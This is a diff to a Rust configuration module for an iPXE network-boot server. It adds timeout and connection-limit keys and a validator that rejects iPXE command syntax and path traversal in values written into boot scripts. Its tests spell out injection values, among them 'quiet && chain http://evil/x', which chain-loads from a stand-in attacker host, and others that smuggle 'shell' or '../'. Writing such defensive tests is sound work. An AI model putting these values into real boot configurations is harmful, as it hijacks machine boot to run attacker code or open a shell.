@@ -82,6 +82,20 @@ const KEYS: &[KeyDef] = &[
         help: "seconds an open connection may wait for its next request before it is closed",
     },
     KeyDef {
+        section: "server",
+        key: "body_timeout_s",
+        kind: Kind::Int { min: 1, max: 3600 },
+        default: Some("30"),
+        help: "seconds a request body may take to arrive (uploads: with no bytes at all) before 408 and a closed connection",
+    },
+    KeyDef {
+        section: "server",
+        key: "max_connections",
+        kind: Kind::Int { min: 1, max: 1_000_000 },
+        default: None,
+        help: "connections served at once; more wait in the kernel's queue (default and ceiling: the open-file limit minus 64)",
+    },
+    KeyDef {
         section: "paths",
         key: "state_dir",
         kind: Kind::Text,
@@ -205,7 +219,7 @@ const KEYS: &[KeyDef] = &[
         key: "login_attempts_per_minute",
         kind: Kind::Int { min: 1, max: 100_000 },
         default: Some("10"),
-        help: "login attempts allowed per source IP per minute (429 beyond)",
+        help: "login attempts allowed per minute for one username from one source IP (429 beyond; a success resets)",
     },
     KeyDef {
         section: "tuning",
@@ -293,6 +307,11 @@ pub struct ServerConfig {
     /// Idle keep-alive connections are closed after this long; network boot
     /// clients abandon theirs (see `listener`).
     pub idle_timeout: std::time::Duration,
+    /// How long a request body may take; for streamed uploads, how long it
+    /// may go without a byte (see `listener`).
+    pub body_timeout: std::time::Duration,
+    /// `None`: derived from the open-file limit at startup.
+    pub max_connections: Option<u64>,
 }
 
 #[derive(Debug, Clone)]
@@ -559,6 +578,9 @@ impl Config {
                 port: int("server.port") as u16,
                 public_url: text("server.public_url").map(|u| u.trim_end_matches('/').to_string()),
                 idle_timeout: std::time::Duration::from_secs(int("server.idle_timeout_s")),
+                body_timeout: std::time::Duration::from_secs(int("server.body_timeout_s")),
+                max_connections: (values["server.max_connections"].0 != Value::Unset)
+                    .then(|| int("server.max_connections")),
             },
             paths: PathsConfig {
                 boot_dir: text("paths.boot_dir").map(PathBuf::from).unwrap_or_else(|| state_dir.join("boot")),
@@ -666,6 +688,37 @@ impl Config {
     }
 }
 
+/// Keys whose values are written into iPXE scripts.
+const IN_IPXE_SCRIPTS: [&str; 5] =
+    ["server.public_url", "boot.kernel", "boot.initrd", "boot.squashfs", "boot.extra_kernel_args"];
+
+/// The first piece of `s` an iPXE script would read as its own syntax
+/// rather than as text, and what iPXE makes of it.
+fn ipxe_syntax(s: &str) -> Option<(&'static str, &'static str)> {
+    [
+        ("${", "expands a setting"),
+        ("&&", "chains a command"),
+        ("||", "chains a command"),
+        (";", "separates commands"),
+    ]
+    .into_iter()
+    .find(|(token, _)| s.contains(token))
+}
+
+/// Why a boot file name cannot stand on an iPXE `kernel`/`initrd` line and
+/// in a URL path, if it cannot.
+fn boot_name_problem(s: &str) -> Option<String> {
+    if s.contains(' ') {
+        return Some(format!("`{s}` contains a space, which ends the name on the iPXE kernel/initrd line"));
+    }
+    if s.contains("..") || !valid_plain_name(s) {
+        return Some(format!(
+            "`{s}` must be a plain file name inside boot_dir (no `/`, no `..`, not hidden)"
+        ));
+    }
+    None
+}
+
 fn validate(def: &KeyDef, v: &Value) -> Result<(), String> {
     if let (Kind::Int { min, max }, Value::Int(n)) = (def.kind, v) {
         if *n < min || *n > max {
@@ -679,7 +732,16 @@ fn validate(def: &KeyDef, v: &Value) -> Result<(), String> {
         // A newline in a value that ends up in an iPXE script would inject commands.
         return Err("must not contain control characters (newlines, tabs)".into());
     }
-    match def.dotted().as_str() {
+    let dotted = def.dotted();
+    if IN_IPXE_SCRIPTS.contains(&dotted.as_str()) {
+        if let Some((token, what)) = ipxe_syntax(s) {
+            return Err(format!(
+                "`{s}` contains `{token}`, which in the iPXE scripts this value is written into {what}; \
+                 remove it"
+            ));
+        }
+    }
+    match dotted.as_str() {
         "server.host" if s.trim().is_empty() => {
             Err("must not be empty; use 0.0.0.0 for every address".into())
         }
@@ -706,9 +768,7 @@ fn validate(def: &KeyDef, v: &Value) -> Result<(), String> {
             }
         }
         "admin.password" if s.is_empty() => Err("must not be empty".into()),
-        "boot.kernel" | "boot.initrd" | "boot.squashfs" if !valid_plain_name(s) => {
-            Err(format!("`{s}` must be a plain file name inside boot_dir (no `/`, not hidden)"))
-        }
+        "boot.kernel" | "boot.initrd" | "boot.squashfs" => boot_name_problem(s).map_or(Ok(()), Err),
         _ => Ok(()),
     }
 }
@@ -773,7 +833,7 @@ mod tests {
                 .to_string();
         for want in [
             "server.prot (file:",
-            "unknown key; [server] knows host, port, public_url, idle_timeout_s",
+            "unknown key; [server] knows host, port, public_url, idle_timeout_s, body_timeout_s, max_connections",
             "server.port (file:",
             "nope.a (file:",
             "unknown section [nope]",
@@ -785,6 +845,57 @@ mod tests {
         ] {
             assert!(err.contains(want), "missing {want:?} in:\n{err}");
         }
+    }
+
+    #[test]
+    fn values_written_into_ipxe_scripts_refuse_its_syntax() {
+        let cases = [
+            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "console=ttyS0 ${net0/ip}", "boot.extra_kernel_args", "`${`"),
+            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet && chain http://evil/x", "boot.extra_kernel_args", "`&&`"),
+            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet || shell", "boot.extra_kernel_args", "`||`"),
+            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet; shell", "boot.extra_kernel_args", "`;`"),
+            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet\nshell", "boot.extra_kernel_args", "control characters"),
+            ("BTY_SERVER_PUBLIC_URL", "http://10.0.0.2:8080/${x}", "server.public_url", "`${`"),
+            ("BTY_SERVER_PUBLIC_URL", "http://10.0.0.2;shell", "server.public_url", "`;`"),
+            ("BTY_BOOT_KERNEL", "vmlinuz||shell", "boot.kernel", "`||`"),
+            ("BTY_BOOT_KERNEL", "vm linuz", "boot.kernel", "a space"),
+            ("BTY_BOOT_INITRD", "a..b", "boot.initrd", "`..`"),
+            ("BTY_BOOT_INITRD", "../initrd", "boot.initrd", "no `/`"),
+            ("BTY_BOOT_SQUASHFS", "root.squashfs&&x", "boot.squashfs", "`&&`"),
+            ("BTY_BOOT_SQUASHFS", "sub/root.squashfs", "boot.squashfs", "no `/`"),
+        ];
+        for (env, value, key, says) in cases {
+            let err = load(None, &[(env, value), ("BTY_PATHS_STATE_DIR", "/x")]).unwrap_err().to_string();
+            assert!(err.contains(&format!("{key} (env:{env})")), "{value:?}: {err}");
+            assert!(err.contains(says), "{value:?}: want {says:?} in {err}");
+            if !value.contains('\n') {
+                assert!(err.contains(&format!("`{value}`")), "the offending text is shown: {err}");
+            }
+        }
+        let ok = load(
+            None,
+            &[
+                ("BTY_BOOT_EXTRA_KERNEL_ARGS", "console=ttyS0,115200n8 ip=dhcp"),
+                ("BTY_BOOT_SQUASHFS", "root-1.2.squashfs"),
+                ("BTY_SERVER_PUBLIC_URL", "http://bty.lan:8080/base"),
+                ("BTY_PATHS_STATE_DIR", "/x"),
+            ],
+        );
+        assert!(ok.is_ok(), "{:?}", ok.err());
+    }
+
+    #[test]
+    fn server_connection_keys() {
+        let c = load(None, &[("BTY_PATHS_STATE_DIR", "/x")]).unwrap();
+        assert_eq!(c.server.body_timeout, std::time::Duration::from_secs(30));
+        assert_eq!(c.server.max_connections, None);
+        let c = load(None, &[("BTY_SERVER_MAX_CONNECTIONS", "500"), ("BTY_PATHS_STATE_DIR", "/x")]).unwrap();
+        assert_eq!(c.server.max_connections, Some(500));
+        let err = load(None, &[("BTY_SERVER_BODY_TIMEOUT_S", "0")]).unwrap_err().to_string();
+        assert!(
+            err.contains("server.body_timeout_s (env:BTY_SERVER_BODY_TIMEOUT_S): 0 is out of range"),
+            "{err}"
+        );
     }
 
     #[test]
